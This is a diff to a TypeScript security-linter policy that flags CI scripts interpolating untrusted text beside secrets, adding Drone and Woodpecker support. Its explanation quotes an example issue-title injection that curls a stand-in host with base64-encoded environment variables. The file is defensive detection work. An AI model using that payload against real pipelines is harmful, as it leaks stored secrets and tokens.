@@ -9,6 +9,8 @@ import {
 import { injectionsIn as uploadedWith } from "../../platforms/buildkite/injections.ts";
 import type { Author as Chooser } from "../../platforms/circleci/chosen-text.ts";
 import { type Injection as FilledIn, injectionsIn as filledIn } from "../../platforms/circleci/injections.ts";
+import { injectionsIn as substitutedWith } from "../../platforms/container-steps/injections.ts";
+import { DRONE } from "../../platforms/drone/dialect.ts";
 import type { ChosenText } from "../../platforms/flow/chosen-text.ts";
 import { type Injection, injectionsIn } from "../../platforms/github-actions/injections.ts";
 import type { GithubActionsModel, Step } from "../../platforms/github-actions/model.ts";
@@ -18,6 +20,7 @@ import { PRIVILEGED_EVENTS } from "../../platforms/github-actions/privileged-eve
 import { secretsInReach } from "../../platforms/github-actions/secrets-in-reach.ts";
 import { permissionsOf, tokenAccess } from "../../platforms/github-actions/token.ts";
 import { injectionsIn as evaluatedIn } from "../../platforms/gitlab-ci/injections.ts";
+import { WOODPECKER } from "../../platforms/woodpecker/dialect.ts";
 import { definePolicy } from "../define-policy.ts";
 import { onePerPlace } from "../one-per-place.ts";
 import { isJobToken, namesSecret, secretName } from "../secret-like.ts";
@@ -27,8 +30,8 @@ export const secretInInjectableStep = definePolicy({
   meta: {
     id: "untrusted/secret-in-injectable-step",
     title: "Script that takes outsiders' text for code",
-    why: 'The platform puts the text of `${{ … }}` (on CircleCI `<< … >>`) into a script before the shell reads it, so an issue with the title `"; curl https://evil.example/$(env | base64); "` is run as a command, with each secret of the job. Azure does so with `$(Build.SourceVersionMessage)`, Buildkite with `$BUILDKITE_MESSAGE` while the pipeline is uploaded. `eval` and `sh -c` do the same with variables. Critical: any stranger can do it where a stored secret or a writing token is in the job. High: the same, but the text comes in through a merged commit, somebody of the project has to act first, or the token\'s permissions are not stated. Medium: only members of the project (branch and tag names, typed-in inputs) or the callers of an action choose the text, and a secret is beside it. Low: no secret or writing token is beside it, or the event is a pull request from a fork, which gets neither; or the text comes with an event that does not start the workflow as yet.',
-    fix: 'Hand the text over in a variable and quote it: `env: { TITLE: "${{ github.event.issue.title }}" }` beside `run: echo "$TITLE"`; on CircleCI `environment:` of the `run:` does the same, and branch and tag are in `$CIRCLE_BRANCH` and `$CIRCLE_TAG` already. On Buildkite write `$$BUILDKITE_MESSAGE`, which the shell reads as a variable. On Azure map it (`env: { MESSAGE: $(Build.SourceVersionMessage) }`), and give a parameter its `values:`. In `actions/github-script` read `context.payload.issue.title` or `process.env.TITLE`. Replace `eval "… $TITLE"` with the command itself, and `sh -c "… $TITLE"` with `sh -c \'… "$1"\' _ "$TITLE"`.',
+    why: 'The platform puts the text of `${{ … }}` (on CircleCI `<< … >>`) into a script before the shell reads it, so an issue with the title `"; curl https://evil.example/$(env | base64); "` is run as a command, with each secret of the job. Azure does so with `$(Build.SourceVersionMessage)`, Buildkite with `$BUILDKITE_MESSAGE` while the pipeline is uploaded, Drone and Woodpecker with `${DRONE_COMMIT_MESSAGE}` and `${CI_COMMIT_MESSAGE}` before they read the file. `eval` and `sh -c` do the same with variables. Critical: any stranger can do it where a stored secret or a writing token is in the job. High: the same, but the text comes in through a merged commit, somebody of the project has to act first, or the token\'s permissions are not stated. Medium: only members of the project (branch and tag names, typed-in inputs) or the callers of an action choose the text, and a secret is beside it. Low: no secret or writing token is beside it, or the event is a pull request from a fork, which gets neither; or the text comes with an event that does not start the workflow as yet.',
+    fix: 'Hand the text over in a variable and quote it: `env: { TITLE: "${{ github.event.issue.title }}" }` beside `run: echo "$TITLE"`; on CircleCI `environment:` of the `run:` does the same, and branch and tag are in `$CIRCLE_BRANCH` and `$CIRCLE_TAG` already. On Buildkite write `$$BUILDKITE_MESSAGE`, on Drone and Woodpecker `$CI_COMMIT_MESSAGE` or `$${…}`, which the shell reads as a variable. On Azure map it (`env: { MESSAGE: $(Build.SourceVersionMessage) }`), and give a parameter its `values:`. In `actions/github-script` read `context.payload.issue.title` or `process.env.TITLE`. Replace `eval "… $TITLE"` with the command itself, and `sh -c "… $TITLE"` with `sh -c \'… "$1"\' _ "$TITLE"`.',
     severity: "critical",
     confidence: "high",
     preset: "recommended",
@@ -44,7 +47,7 @@ export const secretInInjectableStep = definePolicy({
     practices: ["P5"],
     cwe: [94, 78],
   },
-  platforms: ["azure-pipelines", "buildkite", "circleci", "github-actions", "gitlab-ci"],
+  platforms: ["azure-pipelines", "buildkite", "circleci", "drone", "github-actions", "gitlab-ci", "woodpecker"],
   examples: {
     flag: [
       {
@@ -346,6 +349,8 @@ export const secretInInjectableStep = definePolicy({
   },
   check({ model, flows }) {
     if (model.kind === "buildkite") return onePerPlace(uploadedWith(model, flows).map(matchOfChosen));
+    if (model.kind === "drone") return onePerPlace(substitutedWith(DRONE, model, flows).map(matchOfChosen));
+    if (model.kind === "woodpecker") return onePerPlace(substitutedWith(WOODPECKER, model, flows).map(matchOfChosen));
     if (model.kind === "circleci") return onePerPlace(filledIn(model, flows).map(matchOfFilledIn));
     if (model.kind === "azure") return onePerPlace(azureInjections(model, flows).map((one) => azureMatch(flows, one)));
     if (model.kind !== "pipeline") return onePerPlace(injectionsIn(model).flatMap((one) => matchOf(model, flows, one)));
@@ -366,7 +371,7 @@ export const secretInInjectableStep = definePolicy({
   },
 });
 
-/** On CircleCI forks are built only if the project lets them, so that no stranger does it just like that. */
+/** Forks are built, or get at secrets, only if the project lets them, so that no stranger does it just like that. */
 const GRADES: Readonly<Record<Chooser, readonly [beside: Severity, alone: Severity]>> = {
   outsider: ["high", "medium"],
   merged: ["high", "medium"],
